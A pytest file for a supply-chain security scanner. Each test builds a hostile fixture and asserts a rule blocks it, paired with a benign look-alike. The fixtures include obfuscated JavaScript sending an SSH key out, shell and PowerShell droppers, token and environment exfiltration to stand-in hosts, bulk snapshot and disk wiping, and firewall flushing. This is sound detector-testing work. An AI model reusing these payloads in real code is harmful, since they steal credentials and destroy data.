"""Classes the seventeenth corpus set showed, each written from its shape (not from the instance),
with a look-alike on the other side that must keep its verdict.
"""

from __future__ import annotations

from pathlib import Path

from scanner_support import blocking

# ------------------------------------------------ code built by a function's own constructor

_SEND_KEYS = (
    'const h = require("https"), fs = require("fs"), os = require("os");'
    'const k = fs.readFileSync(os.homedir() + "/.ssh/id_ed25519", "utf8");'
    'const q = h.request({ host: "keys.collector.example.test", method: "PUT" }); q.end(k);'
)


def test_async_function_constructor_running_hex_code_blocks(tmp_path: Path) -> None:
    js = (
        f'const BLOB = "{_SEND_KEYS.encode().hex()}";\n'
        "const Make = Object.getPrototypeOf(async () => {}).constructor;\n"
        'new Make("require", Buffer.from(BLOB, "hex").toString("utf8"))(require);\n'
        "module.exports = { tabs: 2 };\n"
    )
    assert "SY-FLOW-001" in blocking(tmp_path, {"lint.config.cjs": js})


def test_generator_constructor_through_proto_blocks(tmp_path: Path) -> None:
    js = (
        f'const BLOB = "{_SEND_KEYS.encode().hex()}";\n'
        "const G = (function* () {}).__proto__.constructor;\n"
        'G("require", Buffer.from(BLOB, "hex").toString())(require).next();\n'
    )
    assert "SY-FLOW-001" in blocking(tmp_path, {"build.js": js})


def test_function_constructor_held_in_a_variable_blocks(tmp_path: Path) -> None:
    js = (
        f'const BLOB = "{_SEND_KEYS.encode().hex()}";\n'
        "const Fn = (0, Function);\n"
        'Fn("require", Buffer.from(BLOB, "hex").toString())(require);\n'
    )
    assert "SY-FLOW-001" in blocking(tmp_path, {"plugin.js": js})


def test_async_function_prototype_used_for_a_type_check_does_not_block(tmp_path: Path) -> None:
    js = (
        "const AsyncFn = Object.getPrototypeOf(async () => {}).constructor;\n"
        "function isAsync(f) { return f instanceof AsyncFn; }\n"
        'const table = Buffer.from("68656c6c6f20776f726c64", "hex").toString();\n'
        "module.exports = { isAsync, table, printWidth: 100 };\n"
    )
    assert blocking(tmp_path, {"prettier.config.cjs": js}) == {}


# ------------------------------------------------ a shell script kept in a string of another language

_HOOK = 'v=$(gh auth token)\ncurl -s -d "v=$v" https://hooks.relay.example.test/in\n'


def test_python_triple_quoted_script_sending_a_token_blocks(tmp_path: Path) -> None:
    py = (
        "from pathlib import Path\n\n"
        f'HOOK = """#!/usr/bin/env bash\n{_HOOK}"""\n\n'
        'p = Path.home() / ".local" / "bin" / "gh-refresh"\np.write_text(HOOK)\np.chmod(0o755)\n'
    )
    assert "SY-FLOW-001" in blocking(tmp_path, {"scripts/setup.py": py})


def test_go_raw_string_script_downloading_and_running_blocks(tmp_path: Path) -> None:
    go = (
        'package main\n\nimport "os"\n\nconst hook = `#!/bin/sh\n'
        'wget -qO /tmp/.u https://u.fetcher.example.test/bin && chmod +x /tmp/.u && /tmp/.u\nexec "$@"\n`\n\n'
        'func main() { _ = os.WriteFile("/tmp/wrap", []byte(hook), 0o755) }\n'
    )
    assert "SY-FLOW-002" in blocking(tmp_path, {"cmd/setup/main.go": go})


def test_js_template_literal_script_blocks(tmp_path: Path) -> None:
    js = (
        'const fs = require("fs");\n'
        f"const body = `#!/bin/bash\n{_HOOK}`;\n"
        'fs.writeFileSync(process.env.HOME + "/.local/bin/helper", body, { mode: 0o755 });\n'
    )
    assert "SY-FLOW-001" in blocking(tmp_path, {"install.js": js})


def test_script_written_line_by_line_from_printf_arguments_blocks(tmp_path: Path) -> None:
    sh = (
        "#!/bin/sh\nmake_helper() {\n  printf '%s\\n' '#!/bin/sh' \\\n"
        "    'k=$(cat ~/.docker/config.json)' \\\n"
        "    'wget -q --post-data=\"$k\" https://dock.relay.example.test/k -O /dev/null'\n}\n"
        'make_helper > "$HOME/.local/bin/docker-login-hook"\n'
    )
    assert "SY-FLOW-001" in blocking(tmp_path, {"scripts/add.sh": sh})


def test_ruby_heredoc_script_blocks(tmp_path: Path) -> None:
    rb = (
        "hook = <<~SH\n  #!/bin/sh\n  t=$(aws configure get aws_secret_access_key)\n"
        '  wget -q --header="X-T: $t" https://t.tooling.example.test/p -O /dev/null\nSH\n'
        'File.write(File.expand_path("~/.git-templates/hooks/post-checkout"), hook)\n'
    )
    assert "SY-FLOW-001" in blocking(tmp_path, {"setup.rb": rb})


def test_scripts_in_strings_that_only_work_locally_do_not_block(tmp_path: Path) -> None:
    py = (
        'HOOK = """#!/bin/sh\nctx=$(kubectl config current-context)\nprintf "%s" "$ctx" >&2\nexec "$@"\n"""\n'
        'open("wrap.sh", "w").write(HOOK)\n'
    )
    go = 'package main\n\nconst s = `#!/bin/sh\ngo vet ./... && exec "$@"\n`\n\nfunc main() {}\n'
    sh = "#!/bin/sh\nprintf '%s\\n' '#!/bin/sh' 'echo hello' 'date' > hello.sh\n"
    files = {"scripts/wrap.py": py, "cmd/x/main.go": go, "scripts/mk.sh": sh}
    assert blocking(tmp_path, files) == {}


# ------------------------------------------------ credential files: a private key, a token in a dot-file


def test_php_private_key_file_posted_blocks(tmp_path: Path) -> None:
    php = (
        "<?php\n$root = dirname(__DIR__);\n$bag = [];\n"
        "foreach (['config/app.php', 'keys/jwt-private.pem'] as $f) {\n"
        '    $bag[$f] = file_get_contents("$root/$f");\n}\n'
        "$ctx = stream_context_create(['http' => ['method' => 'POST', 'content' => json_encode($bag)]]);\n"
        "file_get_contents('https://warm.cachebox.example.test/w', false, $ctx);\n"
    )
    assert "SY-FLOW-001" in blocking(tmp_path, {"tests/bootstrap.php": php})


def test_ruby_privkey_sent_blocks(tmp_path: Path) -> None:
    rb = (
        'require "net/http"\nkey = File.read("certs/privkey.pem")\n'
        'Net::HTTP.post(URI("https://c.certsync.example.test/k"), key)\n'
    )
    assert "SY-FLOW-001" in blocking(tmp_path, {"sync.rb": rb})


def test_token_file_or_environment_sent_away_blocks(tmp_path: Path) -> None:
    py = (
        "import os, urllib.request\nfrom pathlib import Path\n\n"
        'tok = os.environ.get("OPS_TOKEN") or (Path.home() / ".vault-token").read_text().strip()\n'
        'urllib.request.urlopen("https://ops.reporter.example.test/t", data=tok.encode())\n'
    )
    assert "SY-FLOW-001" in blocking(tmp_path, {"setup.py": py})


def test_public_key_and_local_vault_do_not_block(tmp_path: Path) -> None:
    php = (
        "<?php\n$pub = file_get_contents(__DIR__ . '/keys/jwt-public.pem');\n"
        "$ctx = stream_context_create(['http' => ['method' => 'POST', 'content' => $pub]]);\n"
        "file_get_contents('https://keys.example.test/register', false, $ctx);\n"
    )
    py = (
        "import json, os, urllib.request\nfrom pathlib import Path\n\n"
        'tok = os.environ.get("VAULT_TOKEN") or (Path.home() / ".vault-token").read_text().strip()\n'
        'req = urllib.request.Request("http://127.0.0.1:8200/v1/sys/health", headers={"X-Vault-Token": tok})\n'
        "print(json.load(urllib.request.urlopen(req)))\n"
    )
    assert blocking(tmp_path, {"register.php": php, "scripts/health.py": py}) == {}


# ------------------------------------------------ backups and snapshots of other systems removed


def test_every_snapshot_listed_and_destroyed_blocks(tmp_path: Path) -> None:
    sh = (
        "#!/bin/sh\nfree_space() {\n"
        "  zfs list -H -o name -t snapshot | xargs -n1 zfs destroy\n"
        "  restic -r /srv/repo forget --keep-daily 0 --prune\n"
        "  snapper list --columns number | tail -n +3 | xargs -r snapper delete\n}\nfree_space\n"
    )
    assert "SY-DES-004" in blocking(tmp_path, {"scripts/free.sh": sh})


def test_time_machine_backups_deleted_in_a_loop_blocks(tmp_path: Path) -> None:
    sh = '#!/bin/bash\nfor b in $(tmutil listbackups); do tmutil delete "$b"; done\n'
    assert "SY-DES-004" in blocking(tmp_path, {"cleanup.sh": sh})


def test_backup_retention_and_one_snapshot_do_not_block(tmp_path: Path) -> None:
    sh = (
        "#!/bin/sh\nrestic forget --keep-last 10 --keep-daily 7 --prune\n"
        "zfs destroy tank/home@before-upgrade\ntmutil thinlocalsnapshots / 20000000000 4\n"
        "find . -name '*.tmp' | xargs rm -f\n"
    )
    assert blocking(tmp_path, {"scripts/rotate.sh": sh}) == {}


# ------------------------------------------------ a compiled program erasing the disks it lists


def test_go_program_formatting_every_block_device_blocks(tmp_path: Path) -> None:
    go = (
        'package main\n\nimport (\n\t"fmt"\n\t"os"\n\t"os/exec"\n)\n\n'
        'func main() {\n\tents, _ := os.ReadDir("/sys/block")\n\tfor _, e := range ents {\n'
        '\t\tdev := fmt.Sprintf("/dev/%s", e.Name())\n'
        '\t\t_ = exec.Command("blkdiscard", "-f", dev).Run()\n\t}\n}\n'
    )
    assert "SY-FLOW-004" in blocking(tmp_path, {"main.go": go})


def test_rust_program_zapping_partition_tables_blocks(tmp_path: Path) -> None:
    rs = (
        "use std::process::Command;\nfn main() {\n"
        '    for n in ["sda", "nvme0n1"] {\n        let d = format!("/dev/{}", n);\n'
        '        let _ = Command::new("sgdisk").args(["--zap-all", &d]).status();\n    }\n}\n'
    )
    assert "SY-FLOW-004" in blocking(tmp_path, {"src/main.rs": rs})


def test_program_reading_disk_health_does_not_block(tmp_path: Path) -> None:
    rs = (
        "use std::process::Command;\nfn main() {\n"
        '    let d = format!("/dev/{}", "nvme0n1");\n'
        '    let _ = Command::new("smartctl").args(["-a", &d]).status();\n'
        '    let _ = Command::new("wipefs").args(["--no-act", &d]).status();\n}\n'
    )
    assert blocking(tmp_path, {"src/main.rs": rs}) == {}


# ------------------------------------------------ an inline program handed the secret as an argument


def test_node_eval_sending_its_arguments_blocks(tmp_path: Path) -> None:
    sh = (
        "#!/bin/sh\nbody=$(cat ~/.config/gh/hosts.yml)\n"
        'node -e \'require("https").request(process.argv[1], {method: "POST"}).end(process.argv[2])\' '
        '"https://status.board.example.test/p" "$body"\n'
    )
    assert "SY-FLOW-001" in blocking(tmp_path, {"scripts/notify.sh": sh})


def test_python_inline_program_posting_its_argument_blocks(tmp_path: Path) -> None:
    sh = (
        "#!/bin/bash\nall=$(printenv)\n"
        "python3 -c 'import sys, requests; requests.post(sys.argv[1], data=sys.argv[2])' "
        'https://deploys.board.example.test/hook "$all"\n'
    )
    assert "SY-FLOW-001" in blocking(tmp_path, {"entrypoint.sh": sh})


def test_inline_program_sending_a_plain_message_does_not_block(tmp_path: Path) -> None:
    sh = (
        '#!/bin/sh\nmsg="started $(hostname) at $(date)"\n'
        "node -e 'fetch(process.argv[1], {method: \"POST\", body: process.argv[2]})' "
        '"https://status.board.example.test/p" "$msg"\n'
        "python3 -c 'import sys; print(sys.argv[1].upper())' \"$msg\"\n"
    )
    assert blocking(tmp_path, {"scripts/notify.sh": sh}) == {}


# ------------------------------------------------ text spelled as numbers


def _codes(s: str) -> str:
    return ",".join(str(ord(c)) for c in s)


def test_awk_character_codes_piped_to_a_shell_blocks(tmp_path: Path) -> None:
    codes = _codes("wget -qO- https://warm.viewer.example.test/i | bash")
    sh = f'#!/bin/sh\nawk \'BEGIN{{n=split("{codes}",a,",");for(i=1;i<=n;i++)printf "%c",a[i]}}\' | sh &\n'
    assert "SY-OBF-008" in blocking(tmp_path, {"scripts/preview.sh": sh})


def test_python_numbers_turned_into_module_names_and_address_blocks(tmp_path: Path) -> None:
    def num(s: str, order: str = "big") -> str:
        return hex(int.from_bytes(s.encode(), order))

    py = (
        "import importlib\nfrom pathlib import Path\n\n"
        f"PARTS = [{num('urllib.request', 'little')}, {num('urlopen', 'little')}, "
        f"{num('https://r.rates.example.test/s', 'little')}]\n\n"
        "def w(n):\n    return n.to_bytes((n.bit_length() + 7) // 8, byteorder='little').decode()\n\n"
        'creds = (Path.home() / ".aws" / "credentials").read_text()\n'
        "getattr(importlib.import_module(w(PARTS[0])), w(PARTS[1]))(w(PARTS[2]), data=creds.encode())\n"
    )
    assert "SY-FLOW-001" in blocking(tmp_path, {"scripts/rates.py": py})


def test_numbers_that_are_data_do_not_block(tmp_path: Path) -> None:
    py = (
        "n = 0x48656c6c6f2c20776f726c642120546869732069732052534121\n"
        "msg = n.to_bytes((n.bit_length() + 7) // 8, 'big').decode()\n"
        "e, m = 65537, 3233\nprint(msg, pow(42, e, m))\n"
    )
    csv = "id,values\n1," + ",".join(str(40 + i % 80) for i in range(60)) + "\n"
    assert blocking(tmp_path, {"scripts/rsa_demo.py": py, "data/table.csv": csv}) == {}


def test_python_number_too_long_for_digits_is_read_without_error(tmp_path: Path) -> None:
    py = "N = 0x" + "7" * 5000 + "\nprint(N.to_bytes(2500, 'big'))\n"
    assert blocking(tmp_path, {"big.py": py}) == {}


# ------------------------------------------------ a credential command run through a program held in a name


def test_credential_fill_through_a_program_variable_sent_away_blocks(tmp_path: Path) -> None:
    js = (
        'const { execFileSync } = require("child_process");\n'
        'const tool = process.env.REAL_GIT || "/usr/bin/git";\n'
        'const out = execFileSync(tool, ["credential", "fill"], { input: "host=gitlab.com\\n\\n" }).toString();\n'
        "const paths = process.env.PATH;\n"
        'fetch("https://usage.wrapper.example.test/r", { method: "POST", body: paths + out });\n'
    )
    assert "SY-FLOW-001" in blocking(tmp_path, {"bin/wrap.js": js})


def test_cli_token_through_spawn_sync_sent_away_blocks(tmp_path: Path) -> None:
    js = (
        'const cp = require("child_process");\nconst kc = "/usr/bin/security";\n'
        'const t = cp.spawnSync(kc, ["find-generic-password", "-s", "vpn", "-w"]).stdout.toString();\n'
        'fetch("https://stats.wrapper.example.test/t?x=" + encodeURIComponent(t));\n'
    )
    assert "SY-FLOW-001" in blocking(tmp_path, {"cli.js": js})


def test_search_path_sent_and_credential_used_at_its_forge_do_not_block(tmp_path: Path) -> None:
    js = (
        'const { execFileSync } = require("child_process");\nconst git = "/usr/bin/git";\n'
        'const out = execFileSync(git, ["credential", "fill"], { input: "host=github.com\\n\\n" }).toString();\n'
        "const pw = /password=(.*)/.exec(out)[1];\n"
        'fetch("https://api.github.com/user", { headers: { Authorization: "token " + pw } });\n'
        'fetch("https://usage.wrapper.example.test/p", { method: "POST", body: process.env.PATH });\n'
    )
    assert blocking(tmp_path, {"bin/wrap.js": js}) == {}


# ------------------------------------------------ a package that replaces a system command


def test_package_bin_named_like_a_system_command_blocks(tmp_path: Path) -> None:
    pkg = '{\n  "name": "ssh-tidy",\n  "version": "1.0.0",\n  "bin": {\n    "ssh": "bin/ssh.js"\n  }\n}\n'
    js = '#!/usr/bin/env node\nrequire("child_process").spawnSync("/usr/bin/ssh", process.argv.slice(2));\n'
    assert "SY-FLOW-003" in blocking(tmp_path, {"package.json": pkg, "bin/ssh.js": js})


def test_package_bin_as_a_string_takes_the_package_name_blocks(tmp_path: Path) -> None:
    pkg = '{"name": "@acme/sudo", "version": "0.1.0", "bin": "cli.js"}\n'
    assert "SY-FLOW-003" in blocking(tmp_path, {"package.json": pkg, "cli.js": "console.log(1);\n"})


def test_package_bin_with_its_own_name_does_not_block(tmp_path: Path) -> None:
    pkg = '{"name": "git-signoff", "version": "1.0.0", "bin": {"git-signoff": "bin/cli.js"}}\n'
    assert blocking(tmp_path, {"package.json": pkg, "bin/cli.js": "console.log(1);\n"}) == {}


# ------------------------------------------------ PowerShell: a download saved to a file, then started


def test_powershell_download_saved_then_started_blocks(tmp_path: Path) -> None:
    ps = (
        '$dst = Join-Path $env:TEMP "helper.exe"\n$dst = "$env:TEMP\\helper.exe"\n'
        'Invoke-WebRequest -UseBasicParsing -Uri "https://cdn.helper.example.test/h.exe" -OutFile $dst\n'
        "Start-Process -FilePath $dst -WindowStyle Hidden\n"
    )
    assert "SY-FLOW-002" in blocking(tmp_path, {"setup.ps1": ps})


def test_powershell_bits_download_run_with_call_operator_blocks(tmp_path: Path) -> None:
    ps = (
        "Start-BitsTransfer -Source https://cdn.helper.example.test/u.ps1 -Destination 'C:\\ProgramData\\u.ps1'\n"
        "& 'C:\\ProgramData\\u.ps1'\n"
    )
    assert "SY-FLOW-002" in blocking(tmp_path, {"update.ps1": ps})


def test_powershell_download_saved_and_only_read_does_not_block(tmp_path: Path) -> None:
    ps = (
        '$csv = "$env:TEMP\\rates.csv"\n'
        'Invoke-WebRequest -Uri "https://data.example.test/rates.csv" -OutFile $csv\n'
        "Import-Csv $csv | Format-Table\nStart-Process notepad.exe\n"
    )
    assert blocking(tmp_path, {"rates.ps1": ps}) == {}


# ------------------------------------------------ the whole environment printed by a shell builtin


def test_declare_p_captured_and_sent_blocks(tmp_path: Path) -> None:
    sh = '#!/bin/bash\nsnap=$(declare -p)\nwget -q --post-data="$snap" https://diag.sink.example.test/s -O-\n'
    assert "SY-FLOW-001" in blocking(tmp_path, {"diag.sh": sh})


def test_typeset_x_captured_and_sent_blocks(tmp_path: Path) -> None:
    sh = '#!/bin/zsh\nvars="$(typeset -x)"\ncurl -fsS -F "v=$vars" https://diag.sink.example.test/z\n'
    assert "SY-FLOW-001" in blocking(tmp_path, {"diag.sh": sh})


def test_one_declared_variable_sent_does_not_block(tmp_path: Path) -> None:
    sh = (
        "#!/bin/bash\ndeclare -a hosts=(a b)\nline=$(declare -p hosts)\n"
        'curl -s -d "$line" https://diag.sink.example.test/s\n'
    )
    assert blocking(tmp_path, {"diag.sh": sh}) == {}


# ------------------------------------------------ the host's packet filter emptied


def test_packet_filter_flushed_blocks(tmp_path: Path) -> None:
    sh = "#!/bin/sh\n# make the dev server reachable\nsudo iptables -F; sudo ip6tables --flush\n"
    assert "SY-KRN-001" in blocking(tmp_path, {"scripts/open.sh": sh})


def test_nft_ruleset_flushed_blocks(tmp_path: Path) -> None:
    assert "SY-KRN-001" in blocking(tmp_path, {"net.sh": "#!/bin/sh\nnft flush ruleset && echo ok\n"})


def test_one_chain_flushed_does_not_block(tmp_path: Path) -> None:
    sh = "#!/bin/sh\niptables -F DEVAPP\niptables -t nat -F\nnft list ruleset\n"
    assert blocking(tmp_path, {"net.sh": sh}) == {}


def test_home_deleted_through_a_short_powershell_alias_blocks(tmp_path: Path) -> None:
    ps = "ri -Path $HOME -Recurse -Force\ndel -Path ~ -Recurse\n"
    assert "SY-DES-001" in blocking(tmp_path, {"clean.ps1": ps})


def test_powershell_download_hashed_against_a_pinned_digest_does_not_block(tmp_path: Path) -> None:
    ps = (
        '$pin = "' + "ab" * 32 + '"\n$f = "$env:TEMP\\tool-setup.exe"\n'
        'Invoke-WebRequest -Uri "https://github.com/acme/tool/releases/download/v1/setup.exe" -OutFile $f\n'
        'if ((Get-FileHash -Algorithm SHA256 $f).Hash -ne $pin) { throw "bad hash" }\nStart-Process $f -Wait\n'
    )
    assert blocking(tmp_path, {"install.ps1": ps}) == {}


def test_powershell_download_hashed_but_not_pinned_blocks(tmp_path: Path) -> None:
    ps = (
        '$f = "$env:TEMP\\tool-setup.exe"\n'
        'Invoke-WebRequest -Uri "https://cdn.tool.example.test/setup.exe" -OutFile $f\n'
        "Write-Host (Get-FileHash $f).Hash\nStart-Process $f\n"
    )
    assert "SY-FLOW-002" in blocking(tmp_path, {"install.ps1": ps})
